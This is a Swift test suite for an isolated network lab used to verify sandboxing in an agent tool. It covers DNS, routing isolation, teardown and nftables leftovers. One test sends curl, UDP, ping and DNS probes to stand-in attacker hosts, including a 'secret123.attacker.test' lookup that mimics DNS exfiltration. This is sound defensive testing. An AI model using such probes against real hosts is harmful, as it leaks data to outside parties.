import CagentCore
import Foundation
import Netlab
import Testing

/// The test network itself: if these fail, no network test of cagent means anything.
@Suite struct NetlabTests {
    @Test(.enabled(if: Requirements.mayRun(root: true, tools: ["ip", "dnsmasq", "tcpdump", "dig", "curl"]),
                   "needs root, iproute2, dnsmasq, tcpdump, dig and curl"))
    func allowedNameResolvesAndItsServerAnswers() throws {
        let lab = try Netlab()
        defer { lab.shutdown() }
        let a = NetlabAddresses.self
        // Through the simulated host's resolver configuration (getent uses /etc/resolv.conf).
        let getent = try lab.run(in: .host, ["getent", "ahostsv4", "www.allowed.test"])
        #expect(getent.stdout.contains(a.web1), "getent: \(getent.stdout) \(getent.stderr)")
        let web = try lab.run(in: .host, ["curl", "-sS", "-4", "--max-time", "5", "http://www.allowed.test/hello"])
        #expect(web.stdout.contains("netlab-web \(a.web1) host=www.allowed.test path=/hello"), "\(web)")
        let web6 = try lab.run(in: .host, ["curl", "-sS", "-6", "--max-time", "5", "http://[\(a.web1v6)]/"])
        #expect(web6.stdout.contains("netlab-web \(a.web1v6)"), "\(web6)")
        // The CNAME chain and the query log.
        let chain = try lab.run(in: .host, ["dig", "+short", "assets.allowed.test"])
        #expect(chain.stdout.split(separator: "\n") == ["edge.cdn.test.", "node7.edge.cdn.test.", Substring(a.web3)])
        #expect(!lab.dnsQueries(containing: "assets.allowed.test").isEmpty)
        // Unknown names are answered NXDOMAIN by the test DNS, never forwarded anywhere.
        let unknown = try lab.run(in: .host, ["dig", "nosuch.example.test"])
        #expect(unknown.stdout.contains("status: NXDOMAIN"))
    }

    @Test(.enabled(if: Requirements.mayRun(root: true, tools: ["ip", "dnsmasq", "tcpdump", "dig", "curl", "ping"]),
                   "needs root and the netlab tools"))
    func attackerSinkRecordsEveryKindOfProbe() throws {
        let lab = try Netlab()
        defer { lab.shutdown() }
        let a = NetlabAddresses.self
        #expect(lab.sinkRecords().isEmpty, "the sink starts empty")
        _ = try lab.run(in: .host, ["curl", "-sS", "--max-time", "5", "http://\(a.attacker4)/tcp-probe"])
        _ = try lab.run(in: .host, ["python3", "-c",
            "import socket; s=socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'udp-probe', ('\(a.attacker6)', 9999))"])
        _ = try lab.run(in: .host, ["ping", "-c", "1", "-W", "2", "-p", "c0ffee", a.attacker4])
        _ = try lab.run(in: .host, ["dig", "+time=2", "+tries=1", "@\(a.publicResolver4)", "x.attacker.test"])
        let records = lab.sinkRecords()
        #expect(records.contains { $0.contains("tcp-probe") }, "\(records)")
        #expect(records.contains { $0.contains("udp-probe") }, "\(records)")
        #expect(records.contains { $0.contains("ICMP echo request") }, "\(records)")
        #expect(records.contains { $0.contains("\(a.publicResolver4).53") }, "\(records)")
        // The attacker's DNS zone logs queries sent through the normal resolver too.
        _ = try lab.run(in: .host, ["dig", "+short", "secret123.attacker.test"])
        #expect(lab.dnsQueries(containing: "secret123.attacker.test").count == 1)
    }

    @Test(.enabled(if: Requirements.mayRun(root: true, tools: ["ip", "dnsmasq", "tcpdump"]), "needs root and iproute2"))
    func realNetworkIsUnreachable() throws {
        let lab = try Netlab(services: [])
        defer { lab.shutdown() }
        // Route look-ups only: nothing is sent toward the machine's resolver or uplink.
        let realResolver = (FileSystem.readText("/etc/resolv.conf") ?? "").split(separator: "\n")
            .first { $0.hasPrefix("nameserver") }.map { String($0.split(separator: " ").last ?? "") } ?? "10.255.255.53"
        let viaHost = try lab.run(in: .host, ["ip", "route", "get", realResolver])
        #expect(viaHost.stdout.contains("via \(NetlabAddresses.router4)"), "the host's only route leads into the internet")
        let viaInternet = try lab.run(in: .internet, ["ip", "route", "get", realResolver])
        #expect(!viaInternet.succeeded && viaInternet.stderr.contains("unreachable"), "\(viaInternet)")
        let v6 = try lab.run(in: .internet, ["ip", "-6", "route", "get", "fd00::1"])
        #expect(!v6.succeeded, "\(v6)")
        // The lab's namespaces hold only loopback and the lab's own veth: no path to the machine's uplink.
        let links = try lab.run(in: .host, ["ip", "-o", "link", "show"]).stdout
        #expect(links.split(separator: "\n").count == 2, "\(links)")
    }

    @Test(.enabled(if: Requirements.mayRun(root: true, tools: ["ip", "dnsmasq", "tcpdump"]), "needs root and iproute2"))
    func shutdownLeavesNothingBehind() throws {
        let lab = try Netlab()
        let id = lab.id
        #expect(FileManager.default.fileExists(atPath: "/run/netns/\(lab.hostNamespace)"))
        // /sys/class/net shows the namespace sysfs was mounted in; if_nameindex asks the thread's own namespace.
        let threadInHost = try lab.onThread(in: .host) { () -> [String] in
            guard let list = if_nameindex() else { return [] }
            defer { if_freenameindex(list) }
            var names: [String] = []
            var entry = list
            while entry.pointee.if_index != 0 { names.append(String(cString: entry.pointee.if_name)); entry += 1 }
            return names
        }
        #expect(threadInHost.contains(lab.hostInterface), "a namespace thread sees the lab's interfaces")
        lab.shutdown()
        let namespaces = FileSystem.list("/run/netns").filter { $0.contains(id) }
        #expect(namespaces.isEmpty, "\(namespaces)")
        let mounts = (FileSystem.readText("/proc/self/mountinfo") ?? "").split(separator: "\n").filter { $0.contains("cgt-\(id)") }
        #expect(mounts.isEmpty, "\(mounts)")
        #expect(!FileSystem.exists("/etc/netns/cgt-\(id)-host"))
        #expect(!FileSystem.exists(lab.directory))
    }

    @Test("NftLeftovers: the kept empty table is no leftover; a session's chain, set or map entry, or another table, is")
    func nftLeftoversTellTheKeptTableFromASessionsPart() {
        let kept = """
            table inet cagent {
            \tmap sessions_fwd {
            \t\ttype ifname : verdict
            \t}
            \tchain forward {
            \t\ttype filter hook forward priority filter; policy accept;
            \t\tiifname "cgs*" oifname "cgs*" drop
            \t}
            }
            """
        #expect(NftLeftovers.find(ruleset: kept).isEmpty)
        #expect(NftLeftovers.find(ruleset: "").isEmpty)
        // The control: the same table with one session's part in it, and a table of another name.
        let session = kept.replacingOccurrences(of: "\t\ttype ifname : verdict\n",
                                                with: "\t\ttype ifname : verdict\n\t\telements = { \"cgsab12\" : jump cgsab12_fwd }\n")
        #expect(NftLeftovers.find(ruleset: session) == ["elements = { \"cgsab12\" : jump cgsab12_fwd }"])
        #expect(NftLeftovers.find(ruleset: kept + "\ntable inet cgt {\n}") == ["table inet cgt {"])
    }
}
